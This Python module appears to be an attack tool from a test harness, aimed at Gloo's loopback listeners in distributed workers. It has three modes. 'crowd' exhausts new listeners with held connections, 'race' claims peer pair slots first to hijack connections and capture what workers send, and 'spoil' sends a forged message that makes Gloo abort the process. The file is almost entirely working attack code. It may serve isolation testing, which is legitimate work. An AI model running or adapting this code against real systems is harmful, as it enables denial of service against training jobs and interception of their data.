"""At the ports where Gloo listens in the workers: who only connects, who takes a peer's place, who spoils it.

    python -m attack.gloo MODE UID

As user UID, where root is to be had, until standard input ends: at all ports of loopback at which somebody begins to
listen meanwhile, and, for `crowd`, at those where somebody listens already. It can't tell whose they are, so run it in
a network namespace that has nothing else in it. Prints "begun", and in the end, as JSON, what came of it.

Gloo's wire: whoever connects first says the pair's number (8 bytes, little-endian, from 0 on for each listener); then
messages follow, each with a preamble of six such numbers: length, operation, slot, offset, length and offset of what is
sent. The one who was waited for hears the other end's first messages at once.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterable

Address = tuple[str, int]

CROWD = 2000  # connections
PLACES = 6  # pairs that a listener may have
TIMES = 3  # that each is tried
LISTENERS = 1 << 14  # bytes of the kernel's table
SEND_UNBOUND_BUFFER = 1
PREAMBLE = struct.Struct("<6Q")
NO_SLOT = 0x5157A9E5  # at which nobody waits for anything: Gloo ends the process that such a message comes to


def listening() -> set[Address]:
    """Where anybody of this machine listens on loopback. The kernel tells of those first: no need to read on."""
    found: set[Address] = set()
    with open("/proc/net/tcp", "rb", buffering=0) as table:
        lines = table.read(LISTENERS).decode().splitlines()[1:]
    for line in lines:
        _, local, _, state = [*line.split(), "", "", "", ""][:4]
        address, _, port = local.partition(":")
        if state == "0A" and address.endswith("7F"):
            found.add((socket.inet_ntoa(bytes.fromhex(address)[::-1]), int(port, 16)))
    return found


def begin(address: Address) -> socket.socket:
    connection = socket.socket()
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        connection.connect(address)
    return connection


def ended() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


def crowd(over: Callable[[], bool], count: int = CROWD) -> dict[str, int]:
    """Open connections to everybody who listens, most of them to who has begun to meanwhile; keep them, say nothing."""
    held: list[socket.socket] = []
    known: set[Address] = set()
    while not over():
        new = listening() - known
        known |= new
        for address in new:
            for _ in range(max(0, min(count // 8, count - len(held)))):
                with contextlib.suppress(OSError):
                    held.append(begin(address))
        time.sleep(0.001)
    return {"held": len(held), "listeners": len(known)}


def race(over: Callable[[], bool], *, spoil: bool = False) -> dict[str, int]:
    """Be the first at each new listener, for each of its places; with `spoil`, say then what ends a process.

    `taken`: of how many places the other end has spoken to us as to its peer; `bytes`: how much it has said.
    """
    known = listening()
    places: dict[int, tuple[socket.socket, bytes]] = {}
    taken: dict[int, int] = {}
    tried = 0
    poll = select.epoll()
    while not over():
        new = listening() - known
        known |= new
        for address in new:
            for number in list(range(PLACES)) * TIMES:
                with contextlib.suppress(OSError):
                    connection = begin(address)
                    said = struct.pack("<Q", number)
                    if spoil:
                        said += PREAMBLE.pack(PREAMBLE.size + 8, SEND_UNBOUND_BUFFER, NO_SLOT, 0, 8, 0) + bytes(8)
                    places[connection.fileno()] = (connection, said)
                    poll.register(connection, select.EPOLLIN | select.EPOLLOUT)
                    tried += 1
        for descriptor, events in poll.poll(0.001):
            connection, said = places[descriptor]
            try:
                if events & select.EPOLLOUT:
                    connection.send(said)
                    poll.modify(connection, select.EPOLLIN)
                if events & select.EPOLLIN:
                    heard = len(connection.recv(65536))
                    taken[descriptor] = taken.get(descriptor, 0) + heard
                    if heard == 0:
                        poll.unregister(connection)
            except OSError:
                poll.unregister(connection)
    return {"tried": tried, "taken": sum(heard > 0 for heard in taken.values()), "bytes": sum(taken.values())}


def main(arguments: Iterable[str]) -> None:
    mode, user = arguments
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(int(user), int(user), int(user))
        os.setresuid(int(user), int(user), int(user))
    print("begun", flush=True)
    match mode:
        case "crowd":
            done = crowd(ended)
        case "race":
            done = race(ended)
        case "spoil":
            done = race(ended, spoil=True)
        case _:
            raise SystemExit(f"{mode!r}: it must be crowd, race or spoil")
    print(json.dumps(done), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
